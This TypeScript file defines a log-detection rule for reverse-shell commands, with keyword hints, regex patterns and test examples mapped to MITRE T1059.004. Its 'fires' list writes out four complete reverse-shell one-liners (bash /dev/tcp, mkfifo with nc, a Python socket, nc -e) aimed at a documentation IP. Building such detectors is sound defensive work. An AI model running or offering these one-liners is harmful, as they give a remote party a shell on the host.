import type { LineExamples, LogRule } from '../sign';

export const rule: LogRule = {
  id: 'reverse-shell',
  row: 36,
  title: 'A line holds the command of a reverse shell',
  techniques: ['T1059.004', 'T1059'],
  severity: 8,
  rationale: 'It gives whoever waits at the other end a shell with the role of the function',
  references: [
    'https://attack.mitre.org/techniques/T1059/004/',
    'https://attack.mitre.org/techniques/T1071/',
  ],
  hints: [
    '/dev/tcp/',
    '/dev/udp/',
    'bash -i',
    'sh -i',
    'nc ',
    'ncat ',
    'socat ',
    'socket.socket',
    'mkfifo',
    'fsockopen',
    'tcpsocket',
    'tcpclient',
    'net.connect',
    'net.socket',
    'pty.spawn',
  ],
  patterns: [
    /\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/,
    /\b(?:ba|z|k|da)?sh\b ?-i\b.{0,40}[<>]&/,
    /\b(?:nc|ncat|netcat)\b[^\n]{0,60}\s-[a-z]*[ec][a-z]*\s+(?:\/bin\/)?(?:ba|da|z)?sh\b/,
    /\bmkfifo\b[^\n]{0,80}\b(?:nc|ncat|telnet|openssl)\b/,
    /\bsocat\b[^\n]{0,80}\bexec:/,
    /socket\.socket\([^\n]{0,200}(?:subprocess|os\.dup2|pty\.spawn)/,
    /\bfsockopen\([^\n]{0,120}(?:exec|passthru|shell_exec|proc_open|popen)\b/,
    /tcpsocket\.(?:new|open)\([^\n]{0,120}(?:exec|popen|\bsh\b)/,
    /net\.(?:connect|socket)\([^\n]{0,200}(?:child_process|spawn|\/bin\/(?:ba)?sh)/,
    /child_process[^\n]{0,120}net\.(?:connect|socket)\(/,
    /new-object\s+system\.net\.sockets\.tcpclient/,
  ],
};

export const examples: LineExamples = {
  fires: [
    'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.7 4444 >/tmp/f',
    'python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET);s.connect(("198.51.100.7",4444));os.dup2(s.fileno(),0)',
    'nc -e /bin/sh 198.51.100.7 4444',
  ],
  silent: [
    'connected to nc-frankfurt-1 over tcp',
    'ERROR socket.socket timed out',
    'running sh -c "npm start"',
  ],
};
